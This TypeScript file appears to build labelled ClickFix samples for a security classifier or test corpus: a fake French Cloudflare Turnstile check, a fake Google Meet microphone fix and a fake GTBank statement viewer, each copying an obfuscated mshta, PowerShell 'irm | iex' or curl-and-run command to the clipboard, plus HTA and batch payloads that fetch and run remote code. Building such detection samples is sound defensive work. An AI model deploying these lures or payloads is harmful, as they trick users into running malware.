import { htmlRoute, type Entry } from '../entry.js';
import { CSS, b64, codes, doc, hex, textR } from '../parts/yv-kit.js';

// ClickFix as it reaches francophone West Africa (and one English variant): fake reCAPTCHA / Turnstile,
// "document cannot be displayed", "microphone problem", macOS Terminal variants, injected into compromised sites.

const encPs = (s: string): string => Buffer.from(s, 'utf16le').toString('base64');

const turnstileFr = `<!DOCTYPE html><html lang="fr"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1"><title>Un instant…</title>
<style>body{font-family:system-ui,-apple-system,Segoe UI,Roboto,sans-serif;margin:0;background:#fff;color:#313131}.m{max-width:60rem;margin:8rem auto 0;padding:0 1.5rem}h1{font-size:2.5rem;font-weight:500}.w{border:1px solid #e0e0e0;background:#fafafa;width:300px;height:65px;display:flex;align-items:center;padding:0 12px;gap:10px}.w input{width:24px;height:24px}.f{font-size:.75rem;color:#666;margin-top:6rem;border-top:1px solid #eee;padding-top:1rem}#ins{display:none;margin-top:20px;background:#fff8e1;border-left:4px solid #f6821f;padding:14px;max-width:520px}</style></head><body>
<div class="m"><h1>senego-actualites.sn</h1><h2 style="font-weight:400">Vérifiez que vous êtes un humain en effectuant l'action ci-dessous.</h2>
<div class="w"><input type="checkbox" id="v"><span>Vérifiez que vous êtes humain</span><span style="margin-left:auto;font-size:11px;color:#f6821f"><b>CLOUDFLARE</b></span></div>
<div id="ins"><b>Vérification supplémentaire requise</b><br>1. Appuyez sur <b>Win + R</b><br>2. Collez avec <b>Ctrl + V</b><br>3. Appuyez sur <b>Entrée</b><br><small>Ray ID : 8f2a6c1e9b7d4a21</small></div>
<div class="f">senego-actualites.sn doit vérifier la sécurité de votre connexion avant de continuer.<br>ID de rayon : 8f2a6c1e9b7d4a21 &bull; Performances et sécurité par Cloudflare</div></div>
<script>
var c=[${codes('mshta https://cdn-verif-turn.sbs/ray/8f2a6c1e.hta')}];
var tail=' # Cloudflare: vérification humaine ID 8f2a6c1e9b7d4a21';
document.getElementById('v').addEventListener('change',function(){navigator.clipboard.writeText(String.fromCharCode.apply(null,c)+tail).catch(function(){});document.getElementById('ins').style.display='block';});
</script></body></html>`;
const hta = `<html><head><HTA:APPLICATION ID="x" WINDOWSTATE="minimize" SHOWINTASKBAR="no"/><script language="VBScript">
Set s = CreateObject("WScript.Shell")
s.Run "powershell -nop -w hidden -enc ${encPs("iex (iwr 'https://cdn-verif-turn.sbs/ray/p.ps1' -UseB).Content")}", 0, False
window.close()
</script></head><body></body></html>`;

const meetFr = doc({
  title: 'Google Meet - Réunion RH entretien',
  lang: 'fr',
  css: `${CSS.reset}body{background:#202124;color:#e8eaed}.v{max-width:720px;margin:40px auto;background:#3c4043;height:380px;border-radius:8px;display:flex;align-items:center;justify-content:center;flex-direction:column}.d{max-width:720px;margin:16px auto;background:#fff;color:#202124;border-radius:8px;padding:18px}.d button{background:#1a73e8;color:#fff;border:0;padding:10px 18px;border-radius:4px}`,
  body: `<div class="v"><div style="font-size:60px">&#127908;</div><p>Votre microphone et votre caméra sont bloqués</p></div>
<div class="d"><b>Problème d'accès au micro détecté</b><p>Le participant « Cabinet RH &mdash; Recrutement Dakar » vous attend. Pour rejoindre l'entretien, réinitialisez l'autorisation du microphone :</p>
<ol><li>Appuyez sur <b>Windows + X</b>, puis choisissez <b>Terminal (admin)</b></li><li>Collez le correctif (Ctrl+V) et validez avec Entrée</li><li>Revenez sur cette page et cliquez « Rejoindre »</li></ol>
<button id="b">Copier le correctif</button></div>
<script>
var parts=['po','wer','shell',' -ep',' by','pass',' -w',' hidden',' -c ','"irm ','https://meet-audio-fix.click/','fr/mic.ps1',' | iex"'];
document.getElementById('b').onclick=function(){navigator.clipboard.writeText(parts.join(''));this.textContent='Copié ✓';};
</script>`,
});

const gtbStatement = doc({
  title: 'GTBank e-Statement Viewer',
  css: `${CSS.reset}body{background:#f4f4f4}.h{background:#dd4f05;color:#fff;padding:12px 20px;font-weight:700}.p{max-width:700px;margin:20px auto;background:#fff;padding:30px;filter:blur(5px);height:300px}.m{position:fixed;top:20%;left:50%;transform:translateX(-50%);width:440px;background:#fff;border-radius:8px;box-shadow:0 10px 30px rgba(0,0,0,.35);padding:22px}.m button{background:#dd4f05;color:#fff;border:0;padding:11px 20px;border-radius:4px}kbd{background:#eee;border:1px solid #aaa;padding:1px 5px;border-radius:3px}`,
  body: `<div class="h">GTBank &middot; Statement of Account (Jan - Aug 2025)</div>
<div class="p">Opening balance ... NIP/TRF ... POS WEB PMT ... Closing balance ...</div>
<div class="m"><h3>Statement failed to load (error 0x80070643)</h3><p>Your browser is missing the GT Secure Viewer component needed to decrypt bank statements. Verify your PC to continue:</p>
<ol><li>Click <b>Verify</b></li><li>Press <kbd>Win</kbd> + <kbd>R</kbd></li><li>Press <kbd>Ctrl</kbd> + <kbd>V</kbd> then <kbd>Enter</kbd></li></ol><button id="vf">Verify</button></div>
<script>
var a=['cmd /c "','cur','l -s -o %TEMP%\\\\gtsv.bat ','https://gtsecure-viewer.top/v/gtsv.bat',' && %TEMP%\\\\gtsv.bat"',' :: GTBank Secure Viewer verification #44172'];
document.getElementById('vf').onclick=function(){var i=document.createElement('input');i.value=a.join('');document.body.appendChild(i);i.select();document.execCommand('copy');i.remove();this.textContent='Now press Win+R';};
</script>`,
});
const gtsvBat = `@echo off\r\npowershell -w hidden -c "iwr https://gtsecure-viewer.top/v/svc.exe -o $env:TEMP\\svc.exe; start $env:TEMP\\svc.exe"\r\n`;

export const entries: Entry[] = [
  {
  id: 'yv-clickfix-turnstile-mshta-senego-fr',
  label: 'clickfix',
  kind: 'clickfix-fake-captcha',
  url: 'https://senego-actualites.sn/politique/article-88214',
  body: turnstileFr,
  routes: { 'cdn-verif-turn.sbs/ray/8f2a6c1e.hta': textR(hta, 'application/hta') },
},
  { id: 'yv-clickfix-meet-microphone-rh-fr', label: 'clickfix', kind: 'clickfix-fake-error', url: 'https://meet-rh-entretien.com/abc-defg-hij', body: meetFr },
  {
  id: 'yv-clickfix-gtbank-statement-viewer',
  label: 'clickfix',
  kind: 'clickfix-fake-error',
  url: 'https://gtsecure-viewer.top/statement/view',
  body: gtbStatement,
  routes: { 'gtsecure-viewer.top/v/gtsv.bat': textR(gtsvBat, 'application/x-bat', { 'content-disposition': 'attachment; filename="gtsv.bat"' }) },
},
];
